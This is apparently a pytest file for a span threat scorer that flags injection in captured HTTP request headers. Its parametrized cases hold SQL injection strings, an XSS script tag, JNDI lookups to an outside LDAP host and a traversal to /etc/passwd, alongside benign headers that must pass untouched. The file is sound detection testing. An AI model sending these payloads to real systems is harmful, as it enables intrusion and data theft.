"""Captured request headers (``http.request.header.*``) are judged for injection on server spans,
whichever spelling and shape the instrumentation used; realistic headers stay quiet."""

from __future__ import annotations

import pytest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, ArrayValue, KeyValue

from tests.processors.threat.spans import CLIENT, http_span, request
from tests.processors.threat.test_scorer import annotations
from vigil.processors.signals import Signal
from vigil.processors.threat import ThreatScorer
from vigil.processors.threat.headers import HEADER_KEYS, analyse_header
from vigil.processors.threat.scorer import Finding


def header(name: str, *values: str) -> KeyValue:
    """As the Python instrumentations record it: lower case, ``_`` for ``-``, a string array."""
    return KeyValue(
        key=f"http.request.header.{name}",
        value=AnyValue(array_value=ArrayValue(values=[AnyValue(string_value=v) for v in values])),
    )


def with_headers(*headers: KeyValue, kind: int = http_span("/").kind):
    span = http_span("/products/lamp", kind=kind)
    span.attributes.extend(headers)
    return span


@pytest.mark.parametrize(
    ("attribute", "category", "rule"),
    [
        (
            header("referer", "https://shop.example.com/search?q=1'+UNION+SELECT+password+FROM+users--"),
            "sqli",
            "sqli.union",
        ),
        (header("x_forwarded_for", "127.0.0.1' AND SLEEP(5)-- "), "sqli", "sqli.time-delay"),
        # the semantic conventions' spelling, and a plain string
        (
            KeyValue(key="http.request.header.x-forwarded-for", value=AnyValue(string_value="1' OR '1'='1")),
            "sqli",
            "sqli.tautology",
        ),
        (header("cookie", "theme=dark; lang=<script>alert(1)</script>"), "xss", "xss.script-tag"),
        (header("x_forwarded_host", "${jndi:ldap://198.51.100.7/a}"), "jndi", "jndi.lookup"),
        (header("origin", "${jndi:ldap://198.51.100.7/a}"), "jndi", "jndi.lookup"),
        (header("x_original_url", "/static/../../../etc/passwd"), "traversal", "traversal.dot-dot"),
        (header("accept_language", "en-US'; DROP TABLE users; --"), "sqli", "sqli.stacked"),
    ],
)
def test_injection_in_a_captured_header_is_found(attribute, category, rule):
    findings: list[Finding] = []
    req = request(with_headers(attribute))
    ThreatScorer(sinks=[findings.append]).score(Signal.TRACES, req)
    got = annotations(req.resource_spans[0].scope_spans[0].spans[0])
    assert category in got["categories"] and rule in got["rules"] and got["score"] >= 0.5
    assert findings[0].evidence[0].key == attribute.key


def test_a_scanner_is_found_in_the_user_agent_header_too():
    span = http_span("/", agent="")
    span.attributes.append(header("user_agent", "sqlmap/1.8.3#stable (https://sqlmap.org)"))
    req = request(span)
    ThreatScorer().score(Signal.TRACES, req)
    assert annotations(req.resource_spans[0].scope_spans[0].spans[0])["categories"] == ["scanner"]


REALISTIC = [
    header("referer", "https://shop.example.com/search?q=red+shoes&page=2&sort=-price"),
    header("referer", "https://www.google.com/"),
    header("referer", "http://localhost:3000/dev/orders?id=42"),
    header("origin", "https://shop.example.com"),
    header("x_forwarded_for", "203.0.113.9, 10.0.0.1, 2001:db8::7"),
    header("forwarded", 'for=192.0.2.60;proto=https;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"'),
    header("x_forwarded_host", "shop.example.com:443"),
    header("content_type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    header("content_type", "application/json; charset=utf-8"),
    header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    header("accept_language", "de-CH, fr;q=0.9, en;q=0.8, *;q=0.5"),
    header("x_requested_with", "XMLHttpRequest"),
    header(
        "cookie",
        "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; csrftoken=Zx9vQ2hY7kLmN3pR;"
        " session=.eJyrVkrNLcjJL0pVslIqLU4tUqoFAD6iBfw.ZWx9Qg.8c1b3e2a4f; theme=dark",
    ),
    header("cookie", "cart=%7B%22items%22%3A%5B12%2C7%5D%7D; consent=necessary%2Canalytics; lang=en-GB"),
    header("cookie", "jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpM"),
    header("cookie", "prefs=YWJjK2RlZi9naGk9PQ==; tz=Europe%2FZurich"),
]


def test_realistic_headers_are_left_byte_for_byte_alone():
    req = request(with_headers(*REALISTIC))
    before = req.SerializeToString()
    ThreatScorer().score(Signal.TRACES, req)
    assert req.SerializeToString() == before


def test_headers_of_outgoing_calls_are_the_applications_own():
    req = request(with_headers(header("x_forwarded_for", "1' OR '1'='1"), kind=CLIENT))
    before = req.SerializeToString()
    ThreatScorer().score(Signal.TRACES, req)
    assert req.SerializeToString() == before


def test_both_spellings_of_every_judged_header():
    names = {key.removeprefix("http.request.header.") for key in HEADER_KEYS}
    assert {"x-forwarded-for", "x_forwarded_for", "referer", "cookie", "user-agent", "user_agent"} <= names
    assert not any("authorization" in name for name in names)  # credentials are never judged
    assert analyse_header("x-forwarded-for", "10.0.0.1") == ()
